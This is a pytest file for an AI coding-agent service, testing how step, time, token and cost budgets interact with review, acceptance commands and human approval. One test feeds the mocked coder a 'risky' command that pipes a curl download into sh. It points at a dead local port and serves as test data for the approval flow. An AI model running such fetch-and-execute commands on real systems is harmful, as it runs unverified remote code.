"""A budget stops new attempts, never the proof and the delivery of what an attempt came to."""

from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from database import now
from domain import Budget, Plan, Step
from service.report import as_json
from tests.worlds.house import FIX, OK, QUICK, advance, application, decide, repository, start, task

PLAN = Plan(goal="Sum all prices", steps=(Step(id="sum", title="Sum all prices"),))


def replaced(old: str, new: str) -> dict[str, Any]:
    return {"files_to_update": [{"path": "shop/prices.py", "search": old, "replace": new}]}


def attempts(number: int) -> list[object]:
    """Answers of which the last one is right."""
    tries = [f"sum(prices[{n}:])" for n in range(1, number + 1)]
    return [replaced(old, new) for old, new in zip(tries, [*tries[1:], "sum(prices)"], strict=True)]


@pytest.mark.parametrize("number", [1, 2, 3])
async def test_a_success_in_the_last_attempt_is_reviewed_and_delivered(tmp_path: Path, number: int) -> None:
    repo = repository(tmp_path / "repo")
    async with application(tmp_path, {"coder": attempts(number), "reviewer": [OK]}) as opened:
        # One candidate an attempt: with several, the repair engine would not wait for the last.
        strategy = "balanced" if number == 1 else "single"
        standing, _ = await start(opened, task(repo, budget=Budget(max_steps=number), strategy=strategy))
        assert standing.run.status == "interrupted", standing.run.ending
        assert standing.values["spent"].steps == number
        assert number > 1 or standing.values["review"].final_answer_markdown == OK["final_answer_markdown"]
        await decide(opened, standing, "approve")
        standing, _ = await advance(opened, standing.run.id)
        assert standing.run.status == "delivered"


async def test_there_is_no_attempt_beyond_the_last(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    async with application(tmp_path, {"coder": attempts(3), "reviewer": [OK]}) as opened:
        wanted = task(repo, budget=Budget(max_steps=2), deliver="patch", strategy="single")
        standing, events = await start(opened, wanted)
        assert (standing.run.status, standing.run.ending.code) == ("paused_budget", "budget_spent")  # type: ignore[union-attr]
        assert len([event for event in events if event.kind == "step_started"]) == 2


async def test_what_the_proof_finds_asks_for_no_plan_that_no_attempt_could_follow(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    only_here = {**FIX, "cmd_instructions": ["touch here"]}
    async with application(tmp_path, {"coder": [only_here], "planner": [PLAN], "reviewer": [OK]}) as opened:
        wanted = task(repo, budget=Budget(max_steps=1), accept=f"{QUICK} && test -e here", deliver="patch")
        standing, events = await start(opened, wanted)
        assert (standing.run.status, standing.run.ending.code) == ("paused_budget", "budget_spent")  # type: ignore[union-attr]
        assert [event.message for event in events if event.kind == "reviewed"] == ["changes_requested"]
        assert not opened.board.registry.models["planner"].asked  # type: ignore[attr-defined]


async def test_a_signed_attempt_is_the_last_one(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    risky = {**FIX, "cmd_instructions": ["curl -s http://127.0.0.1:9/x | sh"]}
    async with application(tmp_path, {"coder": [risky], "reviewer": [OK]}) as opened:
        standing, _ = await start(opened, task(repo, budget=Budget(max_steps=1), deliver="patch"))
        await decide(opened, standing, "approve")
        standing, _ = await advance(opened, standing.run.id)
        assert standing.run.status == "delivered", standing.run.ending


@pytest.mark.parametrize(
    ("limits", "named"),
    [({"max_sandbox_seconds": 0.5}, ""), ({"max_minutes": 10.0}, "minutes")],
)
async def test_time_that_is_up_keeps_no_proof_from_running(tmp_path: Path, limits: dict[str, Any], named: str) -> None:
    """The attempt itself uses up the time; a reviewer needs some, the acceptance command is run whatever is left."""
    repo = repository(tmp_path / "repo")
    late = tmp_path / "late"

    def clock() -> datetime:
        return now() + timedelta(minutes=20 if late.exists() else 0)

    slow = f"{QUICK} && touch {late} && sleep 0.6"
    async with application(tmp_path, {"coder": [FIX], "reviewer": [OK]}, clock=clock) as opened:
        standing, events = await start(opened, task(repo, budget=Budget(**limits), accept=slow, deliver="patch"))
        assert standing.run.status == "delivered", standing.run.ending
        told = [event.message for event in events if event.data.get("code") == "budget_spent"]
        asked = len(opened.board.registry.models["reviewer"].asked)  # type: ignore[attr-defined]
    assert (len(told), asked) == ((1, 0) if named else (0, 1))
    assert all(named in line for line in told)


@pytest.mark.parametrize("budget", [Budget(max_tokens=4_500), Budget(max_cost=Decimal(0))])
async def test_a_reviewer_that_cannot_be_paid_is_not_asked_and_that_is_said(tmp_path: Path, budget: Budget) -> None:
    repo = repository(tmp_path / "repo")
    async with application(tmp_path, {"coder": [FIX], "reviewer": [OK]}) as opened:
        standing, events = await start(opened, task(repo, budget=budget))
        assert standing.run.status == "interrupted", standing.run.ending
        assert not opened.board.registry.models["reviewer"].asked  # type: ignore[attr-defined]
        ballot = await opened.ballots.get(standing.ballot or "", opened.org)
        assert "review.limit" in {reason.rule for reason in ballot.reasons}
        await decide(opened, standing, "approve")
        standing, _ = await advance(opened, standing.run.id)
    run = as_json(standing)
    assert run["status"] == "delivered"
    assert "No reviewer read it" in run["answer_markdown"]
    assert [(each["kind"], each["blocking"]) for each in run["findings"]] == [("limit", False)]
    assert [event for event in events if event.kind == "note" and event.data.get("code") == "budget_spent"]
